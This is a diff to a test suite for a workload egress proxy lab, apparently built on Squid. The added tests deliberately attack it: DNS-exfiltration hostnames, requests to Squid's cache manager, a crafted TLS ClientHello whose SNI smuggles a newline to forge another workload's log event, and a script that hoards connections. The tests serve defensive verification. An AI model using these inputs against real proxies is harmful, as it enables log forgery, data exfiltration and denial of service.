@@ -165,8 +165,12 @@ def _stop(proc: subprocess.Popen[str] | None, group: bool = False) -> None:
             proc.kill()
             proc.wait()
     if proc is not None and group:
+        # All of its group gone before its user is deleted (userdel refuses a user in use).
+        deadline = time.monotonic() + 20
         with contextlib.suppress(ProcessLookupError):
-            os.killpg(proc.pid, signal.SIGKILL)
+            while time.monotonic() < deadline:
+                os.killpg(proc.pid, signal.SIGKILL)
+                time.sleep(0.1)
 
 
 @pytest.fixture(scope="module")
@@ -184,7 +188,13 @@ def lab():
         )  # fmt: skip
         cert.write_text(cert.read_text() + (root / "tls.crt").read_text())
         for argv in (
-            [sys.executable, str(HELPERS / "dns_server.py"), LAN_HOST, str(root / "dns.json")],
+            [
+                sys.executable,
+                str(HELPERS / "dns_server.py"),
+                LAN_HOST,
+                str(root / "dns.json"),
+                str(root / "dns.log"),
+            ],
             [sys.executable, str(HELPERS / "tls_server.py"), str(cert), f"{ALLOWED}:443"],
         ):
             proc = subprocess.Popen(["ip", "netns", "exec", b.net.hs, *argv],
@@ -208,6 +218,7 @@ dns = ["{LAN_HOST}"]
 user = "{b.proxy_user}"
 dir = "{b.proxy_dir}"
 base_port = 3300
+max_connections = 20
 [monitors]
 bpf = false
 overlay = false
@@ -316,6 +327,119 @@ def test_a_workload_cannot_use_another_workloads_port(lab):
 
 def test_a_workload_with_nothing_allowed_gets_nothing(lab):
     assert lab.through("beta", "allowed.test:443", "allowed.test").startswith("refused")
+
+
+#: As a workload: PORT, then a request (hex), then optional raw bytes to send after a
+#: 200 (hex); prints the first line of each answer, or how the connection ended.
+RAW = r"""
+import socket, sys
+port, first, then = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
+s = socket.create_connection(("127.0.0.1", port), timeout=5)
+try:
+    s.sendall(first)
+    head = s.recv(4096)
+    print(head.split(b"\r\n")[0].decode("latin-1") or "closed")
+    if then and b" 200 " in head:
+        s.sendall(then)
+        print(s.recv(4096)[:40].hex() or "closed")
+except OSError as e:
+    print(type(e).__name__)
+"""
+
+
+def raw(lab: Lab, workload: str, first: bytes, then: bytes = b"") -> list[str]:
+    argv = lab.as_user(lab.users[workload], "/usr/bin/python3", "-c", RAW,
+                       str(lab.port(workload)), first.hex(), then.hex())  # fmt: skip
+    out = subprocess.run(argv, capture_output=True, text=True, timeout=60)
+    return out.stdout.split()
+
+
+def client_hello(sni: bytes) -> bytes:
+    """A TLS 1.2 ClientHello naming `sni` (any bytes: Python's ssl refuses odd names)."""
+    ciphers = bytes.fromhex("c02fc030c02bc02c009c009d")
+    body = b"\x03\x03" + os.urandom(32) + b"\x00" + len(ciphers).to_bytes(2, "big") + ciphers
+    body += b"\x01\x00"
+    entry = b"\x00" + len(sni).to_bytes(2, "big") + sni
+    names = len(entry).to_bytes(2, "big") + entry
+    ext = b"\x00\x00" + len(names).to_bytes(2, "big") + names
+    ext += bytes.fromhex("000a00040002001d") + bytes.fromhex("000b00020100")
+    ext += bytes.fromhex("000d000400020401")
+    body += len(ext).to_bytes(2, "big") + ext
+    hello = b"\x01" + len(body).to_bytes(3, "big") + body
+    return b"\x16\x03\x01" + len(hello).to_bytes(2, "big") + hello
+
+
+def test_a_name_not_on_the_list_is_never_looked_up(lab):
+    """Or any name would leave through the resolver, a tunnel around the list."""
+    tag = secrets.token_hex(4)
+    lab.through("beta", f"b{tag}-secret.exfil.test:443", f"b{tag}-secret.exfil.test")
+    raw(lab, "alpha", f"GET http://a{tag}-secret.exfil.test/ HTTP/1.1\r\n"
+        f"Host: a{tag}-secret.exfil.test\r\n\r\n".encode())  # fmt: skip
+    lab.through("alpha", "allowed.test:443", "allowed.test")  # a name on the list: looked up
+    asked = (lab.root / "dns.log").read_text()
+    assert "allowed.test" in asked
+    assert tag not in asked, asked
+
+
+def test_the_cache_manager_is_refused(lab):
+    for request in (
+        b"GET cache_object://allowed.test:443/menu HTTP/1.0\r\n\r\n",
+        b"GET http://allowed.test:443/squid-internal-mgr/menu HTTP/1.0\r\n"
+        b"Host: allowed.test:443\r\n\r\n",
+        b"GET ftp://allowed.test:443/ HTTP/1.0\r\n\r\n",
+    ):
+        answer = " ".join(raw(lab, "alpha", request))
+        assert answer in ("ConnectionResetError", "closed", "HTTP/1.1 403 Forbidden"), (
+            request,
+            answer,
+        )
+
+
+def test_an_sni_holding_a_newline_cannot_forge_another_workloads_event(lab):
+    forged = (
+        f"{time.time():.3f} {lab.port('beta')} CONNECT forged.test 443 9 9 TCP_TUNNEL 200 "
+        "forged.test 203.0.113.9 splice"
+    )
+    hello = client_hello(b"x\n" + forged.encode() + b"\nx y")
+    raw(lab, "alpha", b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n", hello)
+    lab.through("alpha", "allowed.test:443", "allowed.test")
+    lab.wait_event(kind="proxy", workload="alpha", sni="allowed.test")
+    assert not lab.events(domain="forged.test")
+    assert not [e for e in lab.events(kind="proxy") if e.get("workload") == "beta"
+                and e.get("domain") == "forged.test"]  # fmt: skip
+    line = next(ln for ln in (lab.proxy_dir / "var" / "access.log").read_text().splitlines()
+                if "forged.test" in ln)  # fmt: skip
+    assert "%0A" in line or "%0a" in line  # escaped by Squid, one line
+
+
+def test_a_workload_holding_many_connections_does_not_starve_another(lab):
+    hold = subprocess.Popen(
+        lab.as_user(lab.users["beta"], "/usr/bin/python3", "-c", HOARD, str(lab.port("beta"))),
+        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    assert hold.stdout is not None and hold.stdin is not None
+    try:
+        opened = int(hold.stdout.readline())
+        assert opened == 20, opened  # [proxy] max_connections; the rest were dropped
+        assert lab.through("alpha", "allowed.test:443", "allowed.test").startswith("tls")
+    finally:
+        hold.stdin.close()
+        hold.wait(30)
+
+
+#: Opens up to 60 connections to PORT, prints how many got through, holds them.
+HOARD = r"""
+import socket, sys
+held = []
+for _ in range(60):
+    s = socket.socket(); s.settimeout(0.5)
+    try:
+        s.connect(("127.0.0.1", int(sys.argv[1]))); held.append(s)
+    except OSError:
+        s.close()
+print(len(held), flush=True)
+sys.stdin.read()
+"""
 
 
 def test_a_direct_connection_bypassing_the_proxy_is_dropped_and_counted(lab):
